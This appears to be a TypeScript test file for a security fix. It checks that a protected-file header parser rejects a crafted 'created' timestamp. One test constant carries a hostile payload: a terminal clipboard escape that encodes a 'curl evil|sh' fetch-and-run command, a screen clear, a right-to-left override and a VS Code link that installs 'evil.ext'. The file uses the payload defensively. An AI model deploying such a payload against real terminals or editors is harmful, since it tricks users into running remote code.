/**
 * Review 5, finding 3: the `created` text of a protected file header is checked only with
 * Date.parse, which skips anything in parentheses, so a crafted header carries terminal escapes,
 * newlines and VS Code notification links through `created` (unescaped, before any password).
 * Now only the writer's form passes.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { describe, it } from 'node:test';
import { SsoError } from '../../../src/protocol/errors';
import { readProtectedHeader } from '../../../src/ssoService/crypto/protectedFile';

const ESC = '\x1b';
const HOSTILE_CREATED = `2020-01-01 (${ESC}]52;c;Y3VybCBldmlsfHNo${'\x07'}${ESC}[2J\nforged line\u202E [Apply the import](command:workbench.extensions.installExtension?%22evil.ext%22))`;

function craftedHeader(created: string): Buffer {
  const header = {
    format: 'entsso-export', version: 1, created, environment: 'crafted', reminder: '',
    kdf: { name: 'scrypt', N: 2 ** 14, r: 8, p: 1, salt: randomBytes(16).toString('base64') },
    cipher: 'aes-256-gcm', iv: randomBytes(12).toString('base64'), passwordCheck: randomBytes(16).toString('base64'),
  };
  return Buffer.from(`${JSON.stringify(header)}\n${randomBytes(64).toString('base64')}\n`, 'utf8');
}

describe('protected file header: created', () => {
  it('is refused as a damaged header unless it is an ISO 8601 UTC time as the writer puts it', () => {
    for (const created of [HOSTILE_CREATED, '2020-01-01', '2020-01-01T00:00:00+02:00', 'Wed, 01 Jan 2020 00:00:00 GMT', '2020-01-01T00:00:00.000Z\n', '2020-13-01T00:00:00.000Z']) {
      assert.throws(() => readProtectedHeader(craftedHeader(created)), (err) => err instanceof SsoError && err.code === 'ENTSSO_E_BAD_FILE' && /creation time is invalid/.test(err.message), JSON.stringify(created));
    }
  });

  it('accepts the time the writer puts (toISOString), with or without milliseconds', () => {
    for (const created of [new Date().toISOString(), '2020-01-01T00:00:00Z']) assert.equal(readProtectedHeader(craftedHeader(created)).created, created);
  });
});
